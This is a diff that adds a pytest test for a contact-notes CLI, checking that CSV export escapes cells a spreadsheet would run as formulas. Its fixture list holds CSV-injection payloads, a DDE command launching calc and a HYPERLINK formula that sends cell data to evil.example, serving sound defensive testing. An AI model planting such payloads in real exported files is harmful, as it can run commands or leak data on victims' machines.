@@ -48,6 +48,37 @@ def test_csv_has_one_row_per_action_and_reads_back_with_the_csv_module(cli) -> N
     ]
 
 
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1, "click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tstarts with a tab",
+    "\rstarts with a return",
+]
+
+
+def _csv_cells(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(cli) -> None:
+    for n, note in enumerate(FORMULAS):
+        assert cli("give", "--on", f"2026-11-{n + 10:02d}", "Dana Lee", "--", note).code == 0
+    assert cli("give", "=Evil Name", "plain note").code == 0
+    rows = _csv_cells(cli("export", "-f", "csv").out)
+    assert [r["note"] for r in rows[: len(FORMULAS)]] == ["'" + note for note in FORMULAS]
+    assert (rows[-1]["contact"], rows[-1]["note"]) == ("'=Evil Name", "plain note")
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
+    )
+    raw = _csv_cells(cli("export", "-f", "csv", "--raw").out)
+    assert [r["note"] for r in raw[: len(FORMULAS)]] == FORMULAS
+    assert raw[-1]["contact"] == "=Evil Name"
+    assert cli("export", "--raw").code == 2, "--raw is for csv"
+
+
 def test_csv_of_an_empty_file_is_just_the_header(cli) -> None:
     assert cli("export", "-f", "csv").out == (
         "date,time,kind,contact,channel,note,personal,action_id\r\n"
